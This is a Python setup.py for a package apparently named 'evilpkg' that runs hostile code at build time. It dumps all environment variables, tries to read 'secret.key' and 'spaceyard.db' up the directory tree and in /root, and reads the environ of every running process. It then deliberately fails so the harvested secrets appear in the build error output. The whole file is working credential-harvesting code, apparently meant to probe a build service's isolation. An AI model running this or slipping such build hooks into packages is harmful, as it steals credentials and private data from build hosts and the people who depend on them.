"""Runs at build time: reports everything it can see, then fails so that the report is the BUILD_ERROR."""

import os
import sys
from pathlib import Path

from setuptools import setup

here = Path.cwd()
print("EVIL cwd=" + str(here))
for key, value in sorted(os.environ.items()):
    print(f"EVIL env {key}={value}")
for guess in [*here.parents, Path("/root")]:
    for name in ("secret.key", "spaceyard.db"):
        try:
            print(f"EVIL read {guess / name}: {(guess / name).read_bytes()[:100]!r}")
        except OSError as exc:
            print(f"EVIL cannot read {guess / name}: {type(exc).__name__}")
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print(f"EVIL environ {pid}: {Path(f'/proc/{pid}/environ').read_bytes()[:300]!r}")
        except OSError as exc:
            print(f"EVIL environ {pid}: {type(exc).__name__}")
sys.exit("EVIL done")
setup(name="evilpkg", version="0.1", py_modules=[])
